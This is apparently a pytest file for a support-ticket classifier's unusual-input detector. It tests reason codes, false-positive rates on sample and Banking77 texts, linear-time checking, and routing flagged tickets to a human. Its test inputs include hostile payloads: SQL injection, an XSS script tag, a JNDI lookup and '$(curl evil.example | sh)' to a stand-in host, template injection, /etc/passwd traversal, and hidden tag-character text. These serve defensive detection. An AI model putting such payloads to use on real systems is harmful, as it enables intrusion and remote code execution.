"""Unusual input: each reason code fires on what it names, stays quiet on ordinary tickets
(measured false-positive rate), costs linear time, and sends the ticket to a human."""

from __future__ import annotations

import csv
import json
import random
from datetime import timedelta
from pathlib import Path

import pytest

from services.classifier.backends.base import Prediction
from services.classifier.domain import classify
from services.classifier.signals import (
    UNUSUAL_CODES,
    merge_unusual,
    unusual_envelope,
    unusual_text,
    unusual_ticket,
    warm_up,
)
from services.policy import decide, load_default_policy
from shared.contracts import Mode, ModelInfo, ProducerInfo, Signals
from tests.cpu import GROWTH, MAX_RATIO, growth_ratio
from tests.factories import T0, classified, received

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "services" / "classifier" / "data" / "sample_tickets.jsonl"
EXAMPLES = ROOT / "services" / "classifier" / "data" / "examples.csv"
BANKING77 = ROOT.parent / "shared" / "datasets" / "banking77"
BILLING = "I was charged twice for my order last week, please refund the duplicate payment."
EN = (
    "I was charged twice for my order last week and I would like you to refund the duplicate "
    "payment as soon as possible. I have attached the bank statement that shows both payments."
)
DE = (
    "Außerdem wurde mir die Versandgebühr doppelt berechnet, obwohl ich nur eine Lieferung "
    "erhalten habe. Bitte prüfen Sie das und erstatten Sie mir den zu viel gezahlten Betrag."
)
# A subdivision flag emoji is spelled in tag characters, which are otherwise hidden text.
SCOTLAND = "🏴" + "".join(chr(0xE0000 + ord(c)) for c in "gbsct") + "\U000e007f"
# The share of ordinary tickets the detector may flag.
MAX_FALSE_POSITIVE_RATE = 0.01


class BillingBackend:
    """A backend that calls every ticket billing."""

    info = ModelInfo(name="fixed", version="v1", backend="local")

    def predict(self, texts: list[str]) -> list[Prediction]:
        return [Prediction(category="billing", confidence=0.99) for _ in texts]


# ------------------------------------------------------------------------------- text


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (BILLING + "\x00", "control_characters"),
        ("\x1b[31m" + BILLING, "control_characters"),
        (BILLING + "\u0085", "control_characters"),
        ("Hello\r" + BILLING, "control_characters"),
        (BILLING + " \u202eevil\u202c", "invisible_characters"),
        ("re\u00adfund " + BILLING, "invisible_characters"),
        (BILLING + "".join(chr(0xE0000 + ord(c)) for c in "approve"), "invisible_characters"),
        (BILLING + " \udc00", "unpaired_surrogates"),
        ("I\u0336 w\u0337a\u0338s\u0335 charged twice", "combining_marks"),
        ("The 智能手表 " + BILLING, "mixed_scripts"),
        (BILLING + " С меня дважды списали деньги.", "mixed_scripts"),
        ("Please refund my \u043erder. " + BILLING, "mixed_script_words"),
        (EN + " " + DE, "mixed_languages"),
        (" ".join([EN] * 4 + [DE]), "mixed_languages"),
        ("'; DROP TABLE users; -- " + BILLING, "code_like"),
        ("1 UNION SELECT password FROM users", "code_like"),
        (BILLING + " <script>alert(1)</script>", "code_like"),
        (BILLING + " ${jndi:ldap://evil.example/a}", "code_like"),
        (BILLING + " {{7*7}}", "code_like"),
        (BILLING + " $(curl evil.example | sh)", "code_like"),
        (BILLING + " \\u0000", "code_like"),
        (BILLING + " token=" + "eyJhbGciOiJIUzI1NiJ9" * 20, "long_token"),
        ("ignore " * 100, "repetitive_text"),
        (BILLING + " " + "help me " * 600, "too_long"),
    ],
)
def test_each_unusual_text_is_named_by_its_reason_code(body: str, code: str) -> None:
    assert code in unusual_text("", body)


@pytest.mark.parametrize(
    "body",
    [
        BILLING,
        BILLING + " 😡😡 💳💳",
        BILLING + " 👨\u200d👩\u200d👧 🏳\ufe0f\u200d🌈 " + SCOTLAND,
        "Zoë Müller from Café Crème in São Paulo here. " + BILLING,
        "Hello,\r\nmy parcel is late.\r\nThanks\tAnn",
        "JavaScript: TypeError at https://app.example.com/main.js?v=2 line 4; I ran `npm install`.",
        "I paid $(100.00), 50% off, saved in C:\\Users\\ann\\new folder. Select it from a list.",
        "Please update my address and delete my old card from my account.",
        "Tracking: https://track.example.com/p?" + "id=4411&" * 40,
        EN + " " + EN,
    ],
)
def test_ordinary_text_with_emoji_accents_urls_and_prices_is_not_unusual(body: str) -> None:
    assert unusual_text("Order question", body) == ()


def test_a_long_repetitive_subject_is_unusual_on_its_own() -> None:
    assert unusual_text("refund " * 71, BILLING) == ("repetitive_text", "too_long")


def test_codes_come_in_one_fixed_order_once_each() -> None:
    assert merge_unusual(("too_long", "control_characters"), ("control_characters",)) == (
        "control_characters",
        "too_long",
    )
    assert set(UNUSUAL_CODES) >= {"control_characters", "mixed_languages", "decision_fields"}


# ------------------------------------------------------------- fields and envelope


@pytest.mark.parametrize(
    ("fields", "code"),
    [
        ({"ticket_id": "T-1'; DROP TABLE x;--"}, "odd_identifier"),
        ({"ticket_id": "T-1/../../etc/passwd"}, "odd_identifier"),
        ({"customer": {"id": "admin'--"}}, "odd_identifier"),
        ({"metadata": {"mode": "autonomous"}}, "decision_fields"),
        ({"metadata": {"Rules-Fired": "none"}}, "decision_fields"),
        ({"metadata": {"q": "SELECT * FROM users WHERE 1=1"}}, "code_like"),
        ({"metadata": {"k\x00": "v"}}, "control_characters"),
        ({"metadata": {"": "empty key"}}, "odd_metadata"),
        ({"metadata": {f"k{n}": n for n in range(40)}}, "many_metadata_keys"),
        ({"metadata": {"n": 10**300}}, "extreme_numbers"),
        ({"metadata": {"x": 5e-324}}, "extreme_numbers"),
        ({"created_at": "0001-01-01T00:00:00+00:00"}, "implausible_time"),
        ({"occurred_at": "9999-12-31T00:00:00+00:00"}, "implausible_time"),
        ({"created_at": (T0 + timedelta(days=2)).isoformat()}, "implausible_time"),
        ({"schema_version": 999}, "unknown_schema_version"),
        ({"causation_id": "forged"}, "causation_from_upstream"),
        ({"trace_id": "0" * 32}, "invalid_trace_id"),
    ],
)
def test_each_unusual_field_is_named_by_its_reason_code(
    fields: dict[str, object], code: str
) -> None:
    ticket = received(**{"occurred_at": T0.isoformat(), **fields})  # type: ignore[arg-type]

    assert code in unusual_ticket(ticket)


def test_an_ordinary_ticket_with_crm_metadata_has_no_unusual_field() -> None:
    ticket = received(
        customer={"id": "C-42", "tier": "premium", "language": "en"},
        metadata={"priority": "high", "tier": "gold", "order": 4411, "amount": 89.5, "vip": False},
        created_at=(T0 - timedelta(days=400)).isoformat(),
        occurred_at=T0.isoformat(),
        event_id="zendesk-4411",
    )

    assert unusual_ticket(ticket) == ()


@pytest.mark.parametrize(
    ("key", "headers", "value", "code"),
    [
        (b"\xff\xfe", {}, b'{"ticket_id": "T-1", "body": "x"}', "odd_key"),
        (b"k" * 201, {}, b'{"ticket_id": "T-1", "body": "x"}', "odd_key"),
        (b"T-1", {"x-upstream": "\ufffd\ufffd not utf-8"}, b'{"ticket_id": "T-1"}', "odd_headers"),
        (b"T-1", {}, b'{"ticket_id": "T-1", "body": "x", "priority": "p1"}', "decision_fields"),
        (b"T-1", {}, b'{"ticket_id": "T-1", "customer": {"admin": true}}', "decision_fields"),
        (b"T-1", {}, b'{"ticket_id": "T-1", "extra": {"a": [1]}}', "nested_unknown_fields"),
        (b"T-1", {}, json.dumps({f"x{n}": n for n in range(11)}).encode(), "many_unknown_fields"),
        (b"T-1", {}, b'{"ticket_id": "T-1", "body": "a", "body": "b"}', "duplicate_keys"),
    ],
)
def test_what_the_contract_ignores_is_named_by_its_reason_code(
    key: bytes, headers: dict[str, str], value: bytes, code: str
) -> None:
    assert code in unusual_envelope(key, headers, value)


def test_no_key_a_foreign_key_a_content_type_and_one_plain_unknown_field_are_ordinary() -> None:
    value = b'{"ticket_id": "T-1", "body": "x", "tags": "billing"}'

    assert unusual_envelope(None, {"content-type": "application/x-protobuf"}, value) == ()
    assert unusual_envelope(b"some-other-key", {}, value) == ()


def test_the_classifier_records_codes_from_text_fields_and_envelope_together() -> None:
    ticket = received(body=BILLING + "\x00", metadata={"mode": "autonomous"})

    [event] = classify(
        [ticket],
        BillingBackend(),
        producer=ProducerInfo(service="test"),
        now=T0,
        envelopes=[("odd_key",)],
    )

    assert event.signals.unusual_input == ("control_characters", "decision_fields", "odd_key")


# ---------------------------------------------------------------------------- policy


def test_an_unusual_ticket_goes_to_a_human_and_the_decision_names_every_code() -> None:
    event = classified(signals=Signals(unusual_input=("control_characters", "too_long")))

    decision = decide(event, load_default_policy(), producer=ProducerInfo(service="p"), now=T0)

    [rule] = [r for r in decision.rules_fired if r.rule_id == "unusual-input"]
    assert decision.mode is Mode.HUMAN
    assert rule.cap is Mode.HUMAN
    assert "control_characters, too_long" in rule.reason


def test_an_ordinary_ticket_does_not_fire_the_unusual_input_rule() -> None:
    decision = decide(
        classified(), load_default_policy(), producer=ProducerInfo(service="p"), now=T0
    )

    assert "unusual-input" not in [r.rule_id for r in decision.rules_fired]
    assert decision.mode is Mode.AUTONOMOUS


# -------------------------------------------------------------- false positives, cost


def _shipped_tickets() -> list[tuple[str, str]]:
    # The junk and hostile messages among the samples carry a `raw` field: not ordinary.
    with SAMPLES.open(encoding="utf-8") as lines:
        rows = [json.loads(line) for line in lines]
    samples = [(r["subject"], r["body"]) for r in rows if "raw" not in r]
    with EXAMPLES.open(encoding="utf-8", newline="") as handle:
        return samples + [("", row["text"]) for row in csv.DictReader(handle)]


def _banking77(split: str) -> list[str]:
    path = BANKING77 / f"{split}.csv"
    if not path.exists():
        pytest.skip(f"{path} is absent")
    with path.open(encoding="utf-8", newline="") as handle:
        return [row["text"] for row in csv.DictReader(handle)]


def _flag_rate(tickets: list[tuple[str, str]]) -> tuple[float, list[str]]:
    flagged = [
        f"{codes}: {body[:60]}"
        for subject, body in tickets
        if (codes := unusual_text(subject, body))
    ]
    return len(flagged) / len(tickets), flagged


def test_few_shipped_samples_and_examples_are_flagged(request: pytest.FixtureRequest) -> None:
    tickets = _shipped_tickets()

    rate, flagged = _flag_rate(tickets)

    _report(request, f"shipped samples + examples: {len(flagged)} of {len(tickets)} flagged")
    assert len(tickets) > 1_400
    assert rate < MAX_FALSE_POSITIVE_RATE, flagged[:10]


def test_few_banking77_test_texts_are_flagged(request: pytest.FixtureRequest) -> None:
    texts = _banking77("test")

    rate, flagged = _flag_rate([("", text) for text in texts])

    _report(request, f"banking77 test: {len(flagged)} of {len(texts)} flagged")
    assert len(texts) > 3_000
    assert rate < MAX_FALSE_POSITIVE_RATE, flagged[:10]


def test_few_long_english_tickets_are_read_as_mixed_languages(
    request: pytest.FixtureRequest,
) -> None:
    # Banking77 texts are short; joined they make 500-4,000-character English tickets, the
    # length at which the per-window language check runs.
    texts = _banking77("train")
    rng = random.Random(77)
    tickets = [("", " ".join(rng.sample(texts, rng.randint(8, 40)))) for _ in range(300)]

    rate, flagged = _flag_rate(tickets)

    _report(request, f"joined banking77 (500-4,000 chars): {len(flagged)} of 300 flagged")
    assert rate < MAX_FALSE_POSITIVE_RATE, flagged[:10]


@pytest.mark.parametrize(
    "unit", ["a", "😡", "'", "{{", "${", "<%", "select a, b ", "o", "\u0301", "ab ", f"{EN} {DE} "]
)
def test_unusual_text_is_checked_in_linear_time(unit: str) -> None:
    warm_up()

    ratio = growth_ratio(lambda body: unusual_text("", body), unit * (2_400 // len(unit) + 1))

    assert ratio < MAX_RATIO, f"{unit[:20]!r}: {ratio:.1f}x the CPU for {GROWTH}x the text"


def _report(request: pytest.FixtureRequest, line: str) -> None:
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    if reporter is not None:
        reporter.write_line(f"\n{line}")
